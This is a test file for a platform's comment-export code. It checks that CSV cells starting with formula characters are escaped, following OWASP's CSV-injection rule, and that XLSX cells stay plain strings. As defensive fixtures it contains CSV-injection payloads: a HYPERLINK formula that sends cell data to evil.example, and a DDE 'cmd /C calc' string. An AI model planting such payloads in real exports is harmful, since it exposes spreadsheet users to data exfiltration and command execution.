import fs from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { writeCommentsCsv, writeCommentsXlsx, type ExportMeta, type ExportRow } from './comments';

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../..');

/** OWASP's CSV injection rule: a cell that starts with one of these is read as a formula by spreadsheet programs. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

function row(no: number, body: string, node = 'Điều 1'): ExportRow {
  return {
    no,
    commentId: `00000000-0000-4000-8000-00000000000${no}`,
    receivedAt: '2026-11-02T01:00:00.000Z',
    submittedAt: '2026-11-02T01:00:00.000Z',
    channel: 'Cổng thông tin',
    category: 'Cha mẹ học sinh',
    stance: 'Đồng ý',
    node,
    parentCommentId: '',
    status: 'visible',
    edits: 0,
    body,
    statusAt: '',
    statusReasonCode: null,
  };
}

async function* rowsOf(rows: ExportRow[]): AsyncGenerator<ExportRow> {
  yield* rows;
}

const META: ExportMeta = {
  policyId: '11111111-1111-4111-8111-111111111111',
  policyTitle: 'Quy định thu, chi',
  round: 1,
  position: '42',
  includeHidden: false,
  locale: 'vi',
};

async function written(
  write: typeof writeCommentsCsv,
  rows: ExportRow[],
  meta: Partial<ExportMeta> = {},
): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await write(rowsOf(rows), { ...META, ...meta }, out);
  return Buffer.concat(chunks);
}

async function csvOf(rows: ExportRow[], meta: Partial<ExportMeta> = {}): Promise<string[][]> {
  return parse(await written(writeCommentsCsv, rows, meta), { bom: true, relax_column_count: true }) as string[][];
}

describe('comments.csv escapes formulas (OWASP CSV injection)', () => {
  it.each(FORMULA_STARTS)('prefixes a body starting with %j with an apostrophe, keeping the rest', async (start) => {
    const body = `${start}HYPERLINK("https://evil.example/?"&A1;"Bấm vào đây")`;
    const [, , exported] = await csvOf([row(1, body)]);
    expect(exported![11]).toBe(`'${body}`);
  });

  it('escapes every text cell the file holds, not only the body: the title and node labels too', async () => {
    const [first, , exported] = await csvOf([row(1, 'Đồng ý.', '=1+1')], {
      policyTitle: '@SUM(1+1)*cmd|" /C calc"!A0',
    });
    expect(first![6]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(exported![7]).toBe("'=1+1");
  });

  it('keeps a cell whose quotes and separators try to open a new cell inside one cell', async () => {
    const body = 'Ý kiến",=1+2;=1+2,"=cmd';
    const [, , exported] = await csvOf([row(1, body)]);
    expect(exported).toHaveLength(12);
    expect(exported![11]).toBe(body);
  });

  it('leaves ordinary text, numbers and a minus inside the text as they are', async () => {
    const [, , a, b] = await csvOf([row(1, 'Học phí 2-3 triệu đồng = quá cao.'), row(2, 'Trường học +1')]);
    expect(a![0]).toBe('1');
    expect(a![11]).toBe('Học phí 2-3 triệu đồng = quá cao.');
    expect(b![11]).toBe('Trường học +1');
  });
});

describe('comments.xlsx needs no escaping: its cells are typed strings', () => {
  it('writes a body starting with each formula character as a string cell, unchanged, never a formula', async () => {
    const bodies = FORMULA_STARTS.map((start) => `${start}HYPERLINK("https://evil.example/";"Bấm")`);
    const bytes = await written(
      writeCommentsXlsx,
      bodies.map((body, i) => row(i + 1, body)),
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    bodies.forEach((body, i) => {
      const cell = sheet.getRow(i + 3).getCell(12);
      expect(cell.type, JSON.stringify(body)).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, JSON.stringify(body)).toBeUndefined();
      // An XML reader takes a raw carriage return in text for a line feed: the text is otherwise as written.
      expect(cell.value).toBe(body.replace(/\r/g, '\n'));
    });
  });
});

describe('every CSV the platform writes goes through exports/csv.ts', () => {
  it('no other source file builds CSV with csv-stringify', () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        // build and dist hold generated bundles (web/build, services/*/dist), not sources.
        if (['node_modules', 'build', 'dist'].includes(entry.name) || entry.name.startsWith('.')) continue;
        const file = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(file);
        else if (/\.(ts|js|svelte)$/.test(entry.name) && !/\.test\.ts$/.test(entry.name)) {
          if (/from ['"]csv-stringify/.test(fs.readFileSync(file, 'utf8')))
            offenders.push(path.relative(repoRoot, file));
        }
      }
    };
    for (const dir of ['services', 'web/src']) walk(path.join(repoRoot, dir));
    expect(offenders).toEqual(['services/api/src/exports/csv.ts']);
  });
});
